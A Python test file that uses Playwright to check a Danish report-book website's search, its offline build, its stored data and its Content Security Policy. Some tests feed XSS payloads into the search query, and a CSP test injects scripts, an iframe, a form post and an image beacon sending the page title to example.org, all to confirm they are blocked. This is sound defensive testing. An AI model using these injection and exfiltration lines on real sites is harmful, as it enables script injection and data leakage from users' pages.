"""The site as readers use it: search, what a page may ask for and keep, and the folder opened without a server."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.request import urlopen

import pytest
from browser import opened, pages, served
from playwright.sync_api import Browser

from kvartalsbog.sphinxext.hosting import CONTENT_POLICY, HEADERS, header_files

pytestmark = pytest.mark.slow
PAGES = pages()


def test_an_interval_stays_on_one_line_on_a_narrow_page_and_is_copied_as_it_is_written(
    browser: Browser, site: str
) -> None:
    with opened(browser, site + "notebooks/2024/pillar_1.html", origin=site) as watched:
        watched.page.set_viewport_size({"width": 320, "height": 800})
        intervals = watched.page.locator(".kb-interval")
        assert {len(one.evaluate("e => [...e.getClientRects()]")) for one in intervals.all()} <= {0, 1}
        texts = [one.text_content() or "" for one in intervals.all()]
    assert texts
    assert [text for text in texts if not re.fullmatch(r"\(?[0-9.,]+–[0-9.,]+\)?", text)] == []


# -- search ------------------------------------------------------------------------------------------------------------------

# what is typed → words that the title of one of the first three sections has
SOUGHT = {
    "sag": "sag", "sagerne": "sag", "sagens": "sag", "ÆNDRET": "ændr", "aendret": "ændr", "2.2": "2.2", "mål 4.2": "4.2", "1.1": "1.1",
    "folketingets": "folketing", "KØBENHAVN": "Københavns Politi", "koebenhavns": "Københavns Politi", "nordjylland": "Nordjyllands Politi", "maal": "mål",
}  # fmt: skip


@pytest.mark.parametrize("typed", SOUGHT)
def test_search_finds(browser: Browser, site: str, typed: str) -> None:
    with opened(browser, site + PAGES[2], origin=site) as watched:
        page = watched.page
        page.get_by_label("Søg i bogen").fill(typed)
        page.keyboard.press("Enter")
        page.wait_for_url("**/search.html?q=*")
        titles = [link.inner_text() for link in page.locator("#search-results a").all()]
        assert any(SOUGHT[typed].lower() in title.lower() for title in titles[:3]), titles[:5]
        assert re.fullmatch(
            rf"(\d+ afsnit|Ét afsnit) indeholder »{typed}«\.", page.locator("#search-summary").inner_text()
        )
        page.locator("#search-results a").first.click()
        page.locator("h1").wait_for()
    assert watched.told == []


def test_an_excerpt_holds_the_word_also_far_into_a_long_section(browser: Browser, site: str) -> None:
    """The letters æ, ø and å before it are two signs each in the index."""
    with opened(browser, f"{site}search.html?q=indberetning", origin=site) as watched:
        told = watched.page.locator("#search-results li").all_inner_texts()
    assert told
    assert all("indberetning" in text.lower() for text in told)


@pytest.mark.parametrize(
    ("typed", "told"),
    [("xyzzy", "Ingen afsnit indeholder »xyzzy«."), ("", "Skriv et eller flere ord i søgefeltet."), ("...", "Skriv et eller flere ord i søgefeltet.")],
)  # fmt: skip
def test_search_says_when_it_finds_nothing(browser: Browser, site: str, typed: str, told: str) -> None:
    with opened(browser, f"{site}search.html?q={typed}", origin=site) as watched:
        assert watched.page.locator("#search-summary").inner_text() == told
        assert watched.page.locator("#search-results li").count() == 0


@pytest.mark.parametrize(
    "query", ["<img src=x onerror=window.attacked=1>", "%22%3E%3Cscript%3Ewindow.attacked=1%3C/script%3E", "'.*(+["]
)
def test_a_query_is_shown_as_text(browser: Browser, site: str, query: str) -> None:
    with opened(browser, f"{site}search.html?q={query}", origin=site) as watched:
        assert watched.page.evaluate("window.attacked") is None
        assert watched.page.locator("main img").count() == 0
        assert watched.page.locator("#search-summary").inner_text()
    assert watched.told == []


def test_the_folder_works_without_a_server(browser: Browser, book: Path) -> None:
    """Also the search, whose index is a script and not a file that would have to be fetched."""
    root = (book / "html").as_uri() + "/"
    with opened(browser, root + "index.html", origin=root) as watched:
        page = watched.page
        page.wait_for_url("**/book/index.html")
        page.locator(".site-nav a", has_text="Overblik").first.click()
        assert page.locator("h1").inner_text() == "Overblik"
        assert page.locator("main img:visible").first.evaluate("(image) => image.naturalWidth") > 0
        page.get_by_label("Søg i bogen").fill("mål 2.1")
        page.keyboard.press("Enter")
        page.locator("#search-results a").first.click()
        page.locator("h1").wait_for()
    assert watched.told == []


# -- what a page asks for and keeps --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", PAGES)
def test_a_page_keeps_the_policy_and_nothing_of_the_reader(browser: Browser, hosted: str, name: str) -> None:
    """With the headers that a host sends, and the colour choice used: no message, no foreign request, no cookie."""
    with opened(browser, hosted + name, origin=hosted) as watched:
        page = watched.page
        page.wait_for_load_state("networkidle")
        button = page.locator("#theme-button")
        if button.count():
            button.click()
        kept = page.evaluate("[Object.keys(localStorage), Object.keys(sessionStorage), document.cookie]")
        assert kept == [["theme"] if button.count() else [], [], ""]
        assert page.context.cookies() == []
        assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
        loaded = page.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
        assert [address for address in loaded if not address.startswith(hosted)] == []
    assert watched.told == []


@pytest.fixture(scope="module")
def hosted(book: Path) -> Iterator[str]:
    """The book on a host that sends its headers."""
    with served(book / "html", HEADERS) as address:
        yield address


def test_a_host_of_the_tests_sends_the_headers(hosted: str) -> None:
    with urlopen(hosted + PAGES[2]) as answer:
        assert HEADERS.items() <= dict(answer.headers).items()


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.attacked = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.attacked = 1\">')",
        "fetch('/').then(() => { window.attacked = 1 }, () => {})",
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
        "new Image().src = 'https://example.org/?' + document.title",
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://example.org/\"><button id=go></form>'); document.getElementById('go').click()",
    ],
)
def test_the_policy_stops_what_would_get_into_a_page(browser: Browser, site: str, attack: str) -> None:
    """Were something to get past everything else, the browser would refuse it and say so."""
    refused: dict[str, str | None] = {}
    with opened(browser, site + PAGES[2], origin=site) as watched:
        watched.page.on("requestfailed", lambda request: refused.update({f"request: {request.url}": request.failure}))
        watched.page.evaluate(f"() => {{ {attack} }}")
        watched.page.wait_for_timeout(300)
        assert watched.page.evaluate("window.attacked") is None
        assert watched.page.url == site + PAGES[2]
    assert any("Content Security Policy" in words for words in watched.told), watched.told
    assert all(refused.get(words) == "csp" for words in watched.told if words.startswith("request: "))


def test_every_page_and_every_host_has_the_same_policy(book: Path) -> None:
    for name in PAGES:
        html = (book / "html" / name).read_text(encoding="utf-8")
        (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html)
        assert policy.replace("&#39;", "'") == CONTENT_POLICY, name
        assert html.index("Content-Security-Policy") < min(html.find(part) % len(html) for part in ("<script", "<link"))
    assert CONTENT_POLICY.startswith("default-src 'none';")
    assert "unsafe" not in CONTENT_POLICY
    for name, text in header_files().items():
        assert (book / "html" / name).read_text(encoding="utf-8") == text
        for header, value in HEADERS.items():
            assert header in text
            assert value in text, (name, header)
